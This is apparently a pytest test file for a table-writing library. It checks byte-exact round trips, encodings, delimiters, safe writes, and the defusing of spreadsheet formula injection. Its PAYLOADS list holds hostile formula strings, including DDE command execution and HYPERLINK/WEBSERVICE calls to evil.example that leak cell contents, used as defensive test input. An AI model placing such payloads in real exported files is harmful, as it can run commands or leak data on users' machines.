"""Delimited tables: the user's bytes come back, and what is added cannot harm."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import stat
import subprocess
import sys
import tracemalloc
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crustframe.errors import ColumnNotFoundError, TableError
from crustframe.tables import Written, read_table

TRIGGERS = "=+-@\t\r\n\0＝＋－＠"
INVISIBLE = "\ufeff \u00a0\u200b\u200c\u200d\u2060\u3000"

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    "=IMPORTXML(CONCAT(A1),A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\r\n@x",
    "\tplain text after a tab",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    " =1+1",
    "   +1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0\u2060-1",
    "\x01=1+1",
    "safe\r=1+1",
    "safe\n=1+1",
    "safe\r\n\r\n@1",
    "safe\x85=1+1",
    "safe\u2028=1+1",
    "foo;=1+1",
    "foo,=1+1",
    "foo\t=1+1",
    "foo; =1+1",
    "foo,\u200b+1",
    'foo;"=1+1"',
    'foo,"=1+1"',
    'foo";=1+1',
    '";=1+1;"',
    'a;";=1',
    '"=1+1',
    'a;"',
    "a;;=1",
    "+49 171 5550100",
    "-",
    "=",
]


# A sign and 7 or more digits, with gaps: spreadsheets show it, or at worst do a sum.
NUMBER = re.compile(r"[ (]*\+[ (]*[0-9](?:[ ()./-]*[0-9]){6,14} *")


def is_inert(cell: str) -> bool:
    """Whether no spreadsheet runs a cell, however it splits the line."""
    return not cell.lstrip(INVISIBLE).startswith(tuple(TRIGGERS)) or NUMBER.fullmatch(cell.rstrip('"')) is not None


def written(
    tmp_path: Path,
    data: bytes,
    added: pd.DataFrame | Mapping[str, Sequence[object]],
    *,
    name: str = "in.csv",
    out: str = "out.csv",
    encoding: str | None = None,
    delimiter: str | None = None,
    csv_safe: bool = True,
    overwrite_columns: bool = False,
) -> bytes:
    (tmp_path / name).write_bytes(data)
    table = read_table(tmp_path / name, encoding=encoding, delimiter=delimiter)
    table.write(tmp_path / out, added, csv_safe=csv_safe, overwrite_columns=overwrite_columns)
    return (tmp_path / out).read_bytes()


def table_of(tmp_path: Path, data: bytes, name: str = "in.csv", **options: str):
    (tmp_path / name).write_bytes(data)
    return read_table(tmp_path / name, **options)


# --- the user's own cells -------------------------------------------------------------------------------------


@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("last", [True, False], ids=["ends", "open"])
@pytest.mark.parametrize(
    ("codec", "bom"),
    [("utf-8", b""), ("utf-8", b"\xef\xbb\xbf"), ("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")],
)
def test_own_bytes_survive_every_spelling(tmp_path, newline, delimiter, last, codec, bom):
    lines = [
        ["id", '"the ""name"""', "url"],
        ["00731", "NA", " https://a.example "],
        ['"007"', f'"two{newline}lines {delimiter} one cell"', "null"],
        ["1.0", 'say "hi"', '"Zoë 李 😀"'],
    ]
    ending = newline if last else ""
    text = newline.join(delimiter.join(line) for line in lines) + ending
    spliced = newline.join(
        delimiter.join([*line, cell]) for line, cell in zip(lines, ['"n"', '"1"', '""', '"3"'], strict=True)
    )

    table = table_of(tmp_path, bom + text.encode(codec))
    urls = table.column("url")
    table.write(tmp_path / "out.csv", pd.DataFrame({"n": pd.array([1, None, 3], dtype="Int64")}))

    assert ["id", 'the "name"', "url"] == table.columns
    assert [" https://a.example ", "null", "Zoë 李 😀"] == urls
    assert bom + (spliced + ending).encode(codec) == (tmp_path / "out.csv").read_bytes()


CELL = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\r\n"), max_size=8)
SPICY = st.one_of(CELL, st.text('ab ,;|\t"\n\r', max_size=8))


def spelled(cell: str, quote: bool, delimiter: str) -> str:
    if quote or any(mark in cell for mark in '"\r\n' + delimiter) or cell == "":
        return '"' + cell.replace('"', '""') + '"'
    return cell


@st.composite
def tables(draw):
    """Header, rows and delimiter, with every cell's spelling chosen at random."""
    delimiter = draw(st.sampled_from(",;\t|"))
    width = draw(st.integers(1, 4))
    rows = draw(st.lists(st.lists(st.tuples(SPICY, st.booleans()), min_size=width, max_size=width), max_size=6))
    newline = draw(st.sampled_from(["\n", "\r\n"]))
    header = [f"c{i}" for i in range(width)]
    records = [header] + [[spelled(cell, quote, delimiter) for cell, quote in row] for row in rows]
    ending = draw(st.sampled_from([newline, ""]))
    return delimiter, newline, records, ending, [[cell for cell, _ in row] for row in rows]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(tables(), st.data())
def test_without_the_added_cells_the_input_is_back(tmp_path, table, data):
    delimiter, newline, records, ending, values = table
    original = newline.join(delimiter.join(record) for record in records) + ending
    added = [data.draw(st.text(max_size=6)) for _ in values]

    out = written(tmp_path, original.encode(), {"new": added}, delimiter=delimiter).decode()

    position, kept = 0, ""
    for record in records:
        own = delimiter.join(record)
        assert out.startswith(own + delimiter + '"', position)
        position += len(own)
        end = position + len(delimiter) + 1
        while out[end] != '"' or out[end + 1 : end + 2] == '"':
            end += 2 if out[end] == '"' else 1
        following = ending if record is records[-1] else newline
        assert out.startswith(following, end + 1)
        position = end + 1 + len(following)
        kept += own + following
    assert original == kept
    assert len(out) == position
    assert values == [row[:-1] for row in list(csv.reader(io.StringIO(out, newline=""), delimiter=delimiter))[1:]]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(tables(), st.data())
def test_overwriting_changes_that_cell_only(tmp_path, table, data):
    delimiter, newline, records, ending, values = table
    original = newline.join(delimiter.join(record) for record in records) + ending
    target = data.draw(st.integers(0, len(records[0]) - 1))
    expected = [records[0]] + [
        ['"x"' if i == target else cell for i, cell in enumerate(record)] for record in records[1:]
    ]

    out = written(
        tmp_path, original.encode(), {f"c{target}": ["x"] * len(values)}, delimiter=delimiter, overwrite_columns=True
    )

    assert newline.join(delimiter.join(record) for record in expected) + ending == out.decode()


@pytest.mark.parametrize(
    "oddity", [b'"ab"c', b'a"b', b'a""', b'"a" ', b' "a', b'"a""', b"'a'", b"\xc2\xa0", b"nul\0nul", b"\x0b\x0c\x1c"]
)
def test_odd_spellings_are_not_tidied(tmp_path, oddity):
    if oddity == b'"a""':
        oddity += b'"'
    out = written(tmp_path, b"a,b\n" + oddity + b",x\nlast,y\n", {"n": [1, 2]})

    assert b'a,b,"n"\n' + oddity + b',x,"1"\nlast,y,"2"\n' == out


@pytest.mark.parametrize("encoding", ["cp1252", "latin-1", "iso8859-15", "mac-roman", "cp865"])
@pytest.mark.parametrize("out", ["out.csv", "out.tsv"])
def test_an_encoding_that_lacks_characters_gives_way_to_utf_8(tmp_path, encoding, out):
    data = "navn,by\r\nSøren,Århus\r\n".encode(encoding)

    found = written(tmp_path, data, {"n": ["李 ł 😀"]}, encoding=encoding, out=out)

    assert found.startswith(b"\xef\xbb\xbf")
    again = table_of(tmp_path, found, name=out, encoding=encoding)  # the mark says more than a name
    assert [["Søren"], ["Århus"], ["李 ł 😀"]] == [again.column(name) for name in ("navn", "by", "n")]
    assert b"\r\n" in found


@pytest.mark.parametrize(
    ("encoding", "told"),
    [(None, False), ("cp1252", True), ("latin-1", True), ("utf-16", False), ("gb18030", False), ("ascii", True)],
)
def test_another_encoding_is_told_before(tmp_path, encoding, told):
    table = table_of(tmp_path, "a\nx\n".encode("utf-16-le" if encoding == "utf-16" else "ascii"), encoding=encoding)

    assert told == ("UTF-8 with a byte order mark" in table.encoding_note(tmp_path / "out.csv"))
    assert "" == table.encoding_note(tmp_path / "out.xlsx")


def test_renamed_columns_keep_their_encoding(tmp_path):
    table = table_of(tmp_path, "navn;by\nSøren;Århus\n".encode("cp1252"), encoding="cp1252")

    table.write_renamed(tmp_path / "out.csv", ["name", "by"])

    assert '"name";by\nSøren;Århus\n'.encode("cp1252") == (tmp_path / "out.csv").read_bytes()


def test_utf_16_named_without_a_mark(tmp_path):
    out = written(tmp_path, "a,b\n1,2\n".encode("utf-16-le"), {"n": [3]}, encoding="utf-16")

    assert 'a,b,"n"\n1,2,"3"\n'.encode("utf-16-le") == out


def test_wrong_encoding_names_line_and_byte(tmp_path):
    table = table_of(tmp_path, b"name\n" + b"x\n" * 50_000 + "Søren\n".encode("cp1252"))

    with pytest.raises(TableError, match=r"line 50002, byte 100006(?s:.*)--encoding cp1252"):
        table.column("name")


@pytest.mark.parametrize("encoding", ["klingon", "rot13", "utf-32"])
def test_unusable_encodings_are_refused(tmp_path, encoding):
    with pytest.raises(TableError, match="not an encoding"):
        table_of(tmp_path, b"a\n1\n", encoding=encoding)


# --- delimiters, ragged rows, empty lines ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "columns"),
    [
        ("a,b,c", ["a", "b", "c"]),
        ("a;b;c", ["a", "b", "c"]),
        ("a\tb", ["a", "b"]),
        ("a|b", ["a", "b"]),
        ("url", ["url"]),
        ("a, b, c", ["a", " b", " c"]),
        ("a; b", ["a", " b"]),
        ('"x,y,z";b', ["x,y,z", "b"]),
        ("Name, first;Name, last;URL", ["Name, first", "Name, last", "URL"]),
        ('"two\nlines";b', ["two\nlines", "b"]),
    ],
)
def test_delimiter_is_seen_in_the_header(tmp_path, header, columns):
    assert columns == table_of(tmp_path, header.encode() + b"\n").columns


def test_delimiter_comes_from_the_suffix_or_the_argument(tmp_path):
    assert ["a,b,c", "d"] == table_of(tmp_path, b"a,b,c\td\n", name="in.tsv").columns
    assert ["a,b", "c"] == table_of(tmp_path, b"a,b:c\n", delimiter=":").columns
    assert ["a,b,c", "d"] == table_of(tmp_path, b"a,b,c\td\n", delimiter="tab").columns
    with pytest.raises(TableError, match="cannot be a delimiter"):
        table_of(tmp_path, b"a\n", delimiter="::")


def test_short_rows_are_filled_up(tmp_path):
    assert b'a,b,c,"n"\n1,,,"1"\n1,2,,"2"\n" ",,,"3"\n' == written(tmp_path, b'a,b,c\n1\n1,2\n" "\n', {"n": [1, 2, 3]})


def test_short_rows_can_be_overwritten(tmp_path):
    out = written(tmp_path, b"a,b,c\n1\n1,2,3\n", {"n": [7, 8], "c": ["x", "y"]}, overwrite_columns=True)

    assert b'a,b,c,"n"\n1,,"x","7"\n1,2,"y","8"\n' == out


def test_long_rows_are_refused_with_their_line(tmp_path):
    table = table_of(tmp_path, b'a,b\n"x\ny",2\n1,2,3\n')

    with pytest.raises(TableError, match=r"Line 4 of in.csv has 3 cells, the header 2(?s:.*)Hint: "):
        table.column("a")


def test_empty_lines_are_people_only_in_a_single_column(tmp_path):
    single = table_of(tmp_path, b"url\nx\n\ny\n", name="single.csv")
    wide = table_of(tmp_path, b"url,b\n\nx,1\n\r\n\ny,2\n\n", name="wide.csv")
    single.write(tmp_path / "s.csv", {"n": [1, 2, 3]})
    wide.write(tmp_path / "w.csv", {"n": [1, 2]})

    assert ["x", "", "y"] == single.column("url")
    assert ["x", "y"] == wide.column("url")
    assert b'url,"n"\nx,"1"\n,"2"\ny,"3"\n' == (tmp_path / "s.csv").read_bytes()
    assert b'url,b,"n"\n\nx,1,"1"\n\r\n\ny,2,"2"\n\n' == (tmp_path / "w.csv").read_bytes()


def test_header_only(tmp_path):
    table = table_of(tmp_path, b"a,b")

    assert [] == table.column("a")
    assert Written(rows=0, columns=3, neutralised=0) == table.write(tmp_path / "o.csv", {"n": []})
    assert b'a,b,"n"' == (tmp_path / "o.csv").read_bytes()


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "is empty"),
        (b"\xef\xbb\xbf", "is empty"),
        (b"\na,b\n1,2\n", "first line of in.csv is empty"),
        ("a,b\n1,2\n".encode("utf-16-le"), "NUL"),
        (b"PAR1....", "cannot be read as Parquet"),
        (b"PARE....", "an encrypted Parquet file"),
        (b' [\n {"a": 1}]', "one JSON array(?s:.*)one object a line"),
        (b"\x1f\x8b....", "compressed"),
        (b"\xd0\xcf\x11\xe0....", "old .xls"),
    ],
)
def test_what_is_no_table_is_called_so(tmp_path, data, words):
    with pytest.raises(TableError, match=words):
        table_of(tmp_path, data)


@pytest.mark.parametrize(
    ("body", "line"), [(b'1,"open\nand\non\n', 2), (b'1,2\n"x\ny","z\nand on', 4), (b'1,2\n"', 3), (b'"a""\n', 2)]
)
def test_open_quote_names_the_line_where_it_began(tmp_path, body, line):
    with pytest.raises(TableError, match=f"quote that begins on line {line} of in.csv is never closed"):
        table_of(tmp_path, b"a,b\n" + body).column("a")


@pytest.mark.parametrize("newline", [b"", b"\n"], ids=["one-line", "many-lines"])
def test_giant_cells_are_refused_and_large_ones_are_not(tmp_path, newline):
    chunk = b"x" * 2**20 + newline
    large = table_of(tmp_path, b'a\n"' + chunk * 12 + b'"\n')
    giant = table_of(tmp_path, b'a\nx\n"' + chunk * 40 + b'"\n', name="giant.csv")

    assert 12 * len(chunk) == len(str(large.column("a")[0]))
    with pytest.raises(TableError, match=r"line 3 of giant.csv is larger than 16 MiB"):
        giant.column("a")


def test_a_missing_column_is_answered_with_the_nearest(tmp_path):
    table = table_of(tmp_path, b"Name,LinkedIn URL\nx,y\n")

    with pytest.raises(ColumnNotFoundError, match=r"'Name', 'LinkedIn URL'(?s:.*)did you mean 'LinkedIn URL'"):
        table.column("linkedin url")


def test_the_asked_column_has_one_meaning(tmp_path):
    table = table_of(tmp_path, b"a,a,b\n1,2,3\n")

    assert ["3"] == table.column("b")
    with pytest.raises(TableError, match="2 columns 'a'"):
        table.column("a")


def test_a_column_that_is_there_already_needs_permission(tmp_path):
    table = table_of(tmp_path, b"a,b,b\n1,2,3\n")

    with pytest.raises(TableError, match="has a column 'a' already"):
        table.check(tmp_path / "out.csv", ["a"])
    with pytest.raises(TableError, match="more than one column 'b'"):
        table.write(tmp_path / "out.csv", {"b": ["x"]}, overwrite_columns=True)
    with pytest.raises(TableError, match="Two added columns are named 'n'"):
        table.write(tmp_path / "out.csv", pd.DataFrame([[1, 2]], columns=["n", "n"]))
    assert not (tmp_path / "out.csv").exists()


def test_added_columns_must_fit_the_rows(tmp_path):
    table = table_of(tmp_path, b"a\n1\n2\n")

    with pytest.raises(TableError, match="2 rows, but n has 1"):
        table.write(tmp_path / "out.csv", {"n": [1]})


# --- the added cells ------------------------------------------------------------------------------------------


def test_every_type_has_one_spelling(tmp_path):
    added = pd.DataFrame(
        {
            "int": pd.array([2**62, None], dtype="Int64"),
            "float": pd.array([0.1, None], dtype="Float64"),
            "numpy": np.array([-1.5e300, np.nan]),
            "bool": pd.array([True, None], dtype="boolean"),
            "text": pd.array(['say "hi", 李', None], dtype="string"),
            "time": pd.to_datetime(["2026-01-31T10:30:00+01:00", None], utc=True),
            "list": pd.Series([["é", {"a": None, "b": 1}], None], dtype="object"),
            "mixed": pd.Series([datetime(2026, 1, 31, tzinfo=UTC).date(), np.array([1, 2])], dtype="object"),
        }
    )

    rows = list(csv.DictReader(io.StringIO(written(tmp_path, b"a\nx\ny\n", added).decode())))

    assert {
        "a": "x",
        "int": "4611686018427387904",
        "float": "0.1",
        "numpy": "-1.5e+300",
        "bool": "true",
        "text": 'say "hi", 李',
        "time": "2026-01-31T09:30:00Z",
        "list": '["é",{"a":null,"b":1}]',
        "mixed": "2026-01-31",
    } == rows[0]
    assert {"y", "", "[1,2]"} == set(rows[1].values())


def test_control_characters_and_lone_surrogates_become_harmless(tmp_path):
    out = written(tmp_path, b"a\nx\n", {"n": ["one\ttwo\x00three\ud800four\x7ffive"]})

    assert 'a,"n"\nx,"one two three\ufffdfour five"\n' == out.decode()


@pytest.mark.parametrize("out", ["out.csv", "out.tsv", "out.xlsx", "out.parquet", "out.jsonl"])
@pytest.mark.parametrize("csv_safe", [True, False])
def test_line_breaks_stay(tmp_path, out, csv_safe):
    texts = ["one\ntwo", "Dear Avery,\n\nthree\nfour", '"five"\nsix; seven, eight']
    written(tmp_path, b"a,b\n1,x\n2,y\n3,z\n", {"n": texts}, out=out, csv_safe=csv_safe)

    found = read_table(tmp_path / out)

    assert texts == found.column("n")
    assert ["x", "y", "z"] == found.column("b")


def test_every_kind_of_line_break_stays_in_text(tmp_path):
    texts = ["a\r\nb", "a\rb", "a\u2028b", "a\x85b", "a\vb", "a\fb"]
    out = written(tmp_path, b"x\n" + b"1\n" * 6, {"n": texts}).decode()

    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [*texts[:4], "a\nb", "a\nb"] == [row["n"] for row in rows]


def test_a_trigger_behind_a_line_break_is_defused(tmp_path):
    texts = ["Skills:\n- Go\n- C", "safe\r\n\r\n=1+1", "safe\n \u200b@x", "safe\n\n", 'safe\n"']
    table = table_of(tmp_path, b"a\n" + b"1\n" * 5)

    told = table.write(tmp_path / "out.csv", {"n": texts})

    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_bytes().decode(), newline="")))
    safe = ["Skills:\n'- Go\n'- C", "safe\r\n\r\n'=1+1", "safe\n' \u200b@x", "safe", "safe\n'\""]
    assert safe == [row["n"] for row in rows]
    assert 4 == told.neutralised


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("quoted_input", [True, False])
@pytest.mark.parametrize("wrap", [str, lambda text: [text, f"a{text}", {text: text}]], ids=["text", "json"])
def test_no_payload_becomes_a_formula_with_any_separator(tmp_path, delimiter, quoted_input, wrap):
    own = ('"x","y"' if quoted_input else "x,y") + "\n"
    data = ("a,b\n" + own * len(PAYLOADS)).replace(",", delimiter).encode()

    out = written(tmp_path, data, {p: [wrap(q) for q in PAYLOADS] for p in ["=n", "m"]}, delimiter=delimiter).decode()

    for separator in ",;\t":
        for row in csv.reader(io.StringIO(out, newline=""), delimiter=separator):
            for cell in row:
                assert is_inert(cell), (separator, cell)
    assert len(PAYLOADS) + 1 == len(list(csv.reader(io.StringIO(out, newline=""), delimiter=delimiter)))


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(st.text("a1;,\"'=+-@＝ \t\r\n\0\u200b\\\\", max_size=9), min_size=1, max_size=4),
    st.sampled_from(",;\t"),
    st.booleans(),
)
def test_no_text_at_all_becomes_a_formula_with_any_separator(tmp_path, texts, delimiter, nested):
    data = ("a,b\n" + "x,y\n" * len(texts)).replace(",", delimiter).encode()

    out = written(tmp_path, data, {"n": [[t, {t: t}] if nested else t for t in texts], "m": texts}).decode()

    for separator in ",;\t":
        for row in csv.reader(io.StringIO(out, newline=""), delimiter=separator):
            for cell in row:
                assert is_inert(cell), (separator, cell)
    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter=delimiter))[1:]
    if nested:
        clean = [[t, {t: t}] for t in texts]
        assert clean == [json.loads(row[2]) for row in rows]


def test_defusing_is_counted_and_can_be_left_out(tmp_path):
    table = table_of(tmp_path, b"a\n=x\ny\n")
    added = {"@n": ["=1+1", "fine"], "m": [-5, -0.5]}

    safe = table.write(tmp_path / "safe.csv", added)
    raw = table.write(tmp_path / "raw.csv", added, csv_safe=False)

    assert Written(rows=2, columns=3, neutralised=2) == safe
    assert Written(rows=2, columns=3, neutralised=0) == raw
    assert b'a,"\'@n","m"\n=x,"\'=1+1","-5"\ny,"fine","-0.5"\n' == (tmp_path / "safe.csv").read_bytes()
    assert b'a,"@n","m"\n=x,"=1+1","-5"\ny,"fine","-0.5"\n' == (tmp_path / "raw.csv").read_bytes()


def test_defused_json_still_means_the_same(tmp_path):
    value = ["a;=1", 'b;"@x', {"k;-1+2": -5}, "c,d", -1, [-2.5e-3]]
    for delimiter in (",", ";"):
        out = written(tmp_path, b"a\nx\n", {"n": [value]}, delimiter=delimiter).decode()
        cell = list(csv.reader(io.StringIO(out), delimiter=delimiter))[1][1]
        assert value == json.loads(cell)


@pytest.mark.parametrize("text", ["Founder | @acme", "CEO, @acme", "a - b", "1-2", "C++", "me@x.example", "don't"])
def test_ordinary_words_are_left_alone(tmp_path, text):
    assert f'a,"n"\nx,"{text}"\n' == written(tmp_path, b"a\nx\n", {"n": [text]}).decode()


# --- other kinds, pipes ---------------------------------------------------------------------------------------


def test_another_suffix_writes_every_cell_anew(tmp_path):
    data = b'\xef\xbb\xbfid,t\r\n007,"a,""b"\r\n'

    assert b'\xef\xbb\xbf"id"\t"t"\t"n"\r\n"007"\t"a,""b"\t"1"\r\n' == written(
        tmp_path, data, {"n": [1]}, out="out.tsv"
    )
    assert b'"a","b","n"\n"=1","2","3"\n' == written(tmp_path, b"a\tb\n=1\t2\n", {"n": [3]}, name="in.tsv")
    assert b'a;b;"n"\n1;2;"3"\n' == written(tmp_path, b"a;b\n1;2\n", {"n": [3]})
    assert b'a\tb\t"n"\n1\t2\t"3"\n' == written(tmp_path, b"a\tb\n1\t2\n", {"n": [3]})


def test_rewriting_replaces_columns_too(tmp_path):
    out = written(tmp_path, b"a,b\n1,2\n3\n", {"b": ["x", "y"]}, out="out.tsv", overwrite_columns=True)

    assert b'"a"\t"b"\n"1"\t"x"\n"3"\t"y"\n' == out


def test_stdin_to_stdout(monkeypatch, capsysbinary):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"a;b\r\n1;2")))
    table = read_table("-")

    assert ["2"] == table.column("b")
    table.write("-", {"n": [3]})
    assert b'a;b;"n"\r\n1;2;"3"' == capsysbinary.readouterr().out


def test_a_named_pipe_is_read_once(tmp_path):
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    writer = subprocess.Popen([sys.executable, "-c", f"open({str(pipe)!r}, 'w').write('a,b\\n1,2\\n')"])

    table = read_table(pipe)
    writer.wait()

    assert ["1"] == table.column("a")
    assert ["2"] == table.column("b")


def test_a_reader_that_left_is_a_broken_pipe(tmp_path, monkeypatch):
    reading, writing = os.pipe()
    os.close(reading)
    with io.TextIOWrapper(io.FileIO(writing, "w")) as gone:
        monkeypatch.setattr(sys, "stdout", gone)
        with pytest.raises(BrokenPipeError):
            table_of(tmp_path, b"a\n1\n").write("-", {"n": [1]})


# --- writes that fail -----------------------------------------------------------------------------------------


def full_disk(*_: object) -> None:
    raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize("failing", ["fsync", "replace"])
@pytest.mark.parametrize("out", ["out.csv", "out.tsv", "out.xlsx", "out.jsonl", "out.parquet"])
def test_a_failed_write_leaves_the_old_file(tmp_path, monkeypatch, failing, out):
    table = table_of(tmp_path, b"a\n1\n")
    (tmp_path / out).write_bytes(b"before")
    with monkeypatch.context() as patch:
        patch.setattr(os, failing, full_disk)
        with pytest.raises(TableError, match=r"No space left(?s:.*)ledger(?s:.*)free of charge"):
            table.write(tmp_path / out, {"n": [1]})

    assert b"before" == (tmp_path / out).read_bytes()
    assert {"in.csv", out} == {path.name for path in tmp_path.iterdir()}
    assert 1 == table.write(tmp_path / out, {"n": [1]}).rows


class Interrupting(list[object]):
    """A column that breaks off in the middle, as Ctrl-C does."""

    def __iter__(self):
        yield "first"
        raise KeyboardInterrupt


@pytest.mark.parametrize("out", ["out.csv", "out.tsv", "out.xlsx", "out.jsonl", "out.parquet"])
def test_an_interrupted_write_leaves_the_old_file(tmp_path, out):
    table = table_of(tmp_path, b"a\n1\n2\n")
    (tmp_path / out).write_bytes(b"before")

    with pytest.raises(KeyboardInterrupt):
        table.write(tmp_path / out, {"n": Interrupting([1, 2])})

    assert b"before" == (tmp_path / out).read_bytes()
    assert {"in.csv", out} == {path.name for path in tmp_path.iterdir()}


def test_killed_in_the_middle_leaves_the_old_file(tmp_path):
    (tmp_path / "in.csv").write_bytes(b"a\n" + b"x\n" * 20_000)
    (tmp_path / "out.csv").write_bytes(b"before")
    program = f"""
import os
from crustframe.tables import read_table
class Killed(list):
    def __iter__(self):
        yield from ["x" * 100] * 10_000
        os.kill(os.getpid(), 9)
read_table({str(tmp_path / "in.csv")!r}).write({str(tmp_path / "out.csv")!r}, {{"n": Killed(range(20_000))}})
"""

    done = subprocess.run([sys.executable, "-c", program], check=False)

    assert -9 == done.returncode
    assert b"before" == (tmp_path / "out.csv").read_bytes()


@pytest.mark.parametrize("link", ["same", "symlink", "hardlink", "detour"])
def test_the_input_is_never_overwritten(tmp_path, link):
    table = table_of(tmp_path, b"a\n1\n")
    path = tmp_path / "in.csv"
    if link == "symlink":
        path = tmp_path / "link.csv"
        path.symlink_to(tmp_path / "in.csv")
    elif link == "hardlink":
        path = tmp_path / "hard.csv"
        path.hardlink_to(tmp_path / "in.csv")
    elif link == "detour":
        path = tmp_path / ".." / tmp_path.name / "in.csv"

    with pytest.raises(TableError, match="is the input itself"):
        table.write(path, {"n": [1]})
    assert b"a\n1\n" == (tmp_path / "in.csv").read_bytes()


@pytest.mark.parametrize(
    ("out", "words"),
    [
        ("nowhere/out.csv", "folder of out.csv does not exist"),
        ("folder.csv", "not a regular file"),
        ("out.ods", r".ods files are not written(?s:.*).parquet or .jsonl"),
        ("x" * 300 + ".csv", "File name too long"),
    ],
)
def test_impossible_destinations_are_refused(tmp_path, out, words):
    table = table_of(tmp_path, b"a\n1\n")
    (tmp_path / "folder.csv").mkdir()

    with pytest.raises(TableError, match=words):
        table.write(tmp_path / out, {"n": [1]})


def test_a_device_is_not_replaced_by_a_file(tmp_path):
    with pytest.raises(TableError, match="not a regular file"):
        table_of(tmp_path, b"a\n1\n").write(os.devnull, {"n": [1]})


def test_permissions_follow_the_umask(tmp_path):
    table = table_of(tmp_path, b"a\n1\n")
    before = os.umask(0o027)
    try:
        table.write(tmp_path / "out.csv", {"n": [1]})
    finally:
        os.umask(before)

    assert 0o640 == stat.S_IMODE((tmp_path / "out.csv").stat().st_mode)


def test_a_link_keeps_pointing(tmp_path):
    table = table_of(tmp_path, b"a\n1\n")
    (tmp_path / "real.csv").write_bytes(b"before")
    (tmp_path / "link.csv").symlink_to("real.csv")

    table.write(tmp_path / "link.csv", {"n": [1]})

    assert (tmp_path / "link.csv").is_symlink()
    assert b'a,"n"\n1,"1"\n' == (tmp_path / "real.csv").read_bytes()


def test_an_input_that_changed_is_not_matched(tmp_path):
    table = table_of(tmp_path, b"a\n1\n2\n")
    table.column("a")
    (tmp_path / "in.csv").write_bytes(b"a\n2\n1\n\n")

    with pytest.raises(TableError, match=r"in.csv changed(?s:.*)free of charge"):
        table.write(tmp_path / "out.csv", {"n": [1, 2]})
    assert not (tmp_path / "out.csv").exists()


def test_a_missing_input_says_so(tmp_path):
    with pytest.raises(TableError, match=r"none.csv cannot be read: No such file"):
        read_table(tmp_path / "none.csv")
    with pytest.raises(TableError, match="cannot be read: Is a directory"):
        read_table(tmp_path)


# --- size and start-up ----------------------------------------------------------------------------------------


def test_memory_does_not_grow_with_the_file(tmp_path):
    n = 50_000
    row = b"https://linkedin.example/in/%05d," + b"padding " * 25 + b'," 007 "\n'
    data = b"url,pad,id\n" + b"".join(row % i for i in range(n))
    (tmp_path / "in.csv").write_bytes(data)
    added = pd.DataFrame({"n": pd.array(range(n), dtype="Int64"), "t": pd.array(["text"] * n, dtype="string")})
    table = read_table(tmp_path / "in.csv")
    assert len(data) > 10 * 2**20

    tracemalloc.start()
    table.write(tmp_path / "out.csv", added)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert n == table.n_rows
    assert peak < 3 * 2**20


def test_starting_loads_no_heavy_library():
    program = "import sys, crustframe.tables; print({'openpyxl', 'xlsxwriter', 'pyarrow.parquet'} & set(sys.modules))"

    done = subprocess.run([sys.executable, "-c", program], check=True, capture_output=True, text=True)

    assert "set()" == done.stdout.strip()
